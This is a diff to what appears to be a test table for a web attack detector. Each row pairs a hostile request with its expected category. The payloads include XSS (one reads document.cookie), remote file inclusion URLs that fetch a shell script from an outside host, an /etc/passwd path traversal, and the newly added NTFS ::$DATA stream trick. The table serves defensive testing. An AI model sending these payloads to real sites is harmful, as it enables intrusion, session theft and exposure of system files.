@@ -84,6 +84,7 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['xss in a multipart field', multipart('signature', '<a href="jav&#x09;ascript:alert(1)">me</a>'), XSS, 'multipart', 'signature'],
   ['xss in the Referer', get('/', 'Referer: http://shop.example/"><script>alert(1)</script>\r\n'), XSS, 'header', 'referer'],
   ['xss in a cookie', get('/', 'Cookie: pref=%3Cscript%3Ealert(document.cookie)%3C/script%3E\r\n'), XSS, 'cookie', 'pref'],
+  ["a script's source through its NTFS stream name (::$DATA, wapiti)", get('/download?file=download%3A%3A%24DATA'), TRAVERSAL, 'query', 'file'],
   ["remote file inclusion: wapiti's URL cut by a NUL byte", get('/download?file=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00'), TRAVERSAL, 'query', 'file'],
   ['remote file inclusion: a URL ending in ?', get('/index.php?page=http://198.51.100.7/shell.txt?'), TRAVERSAL, 'query', 'page'],
   ['path traversal in the path, encoded', get('/static/..%2f..%2f..%2f..%2fetc/passwd'), TRAVERSAL, 'path', ''],
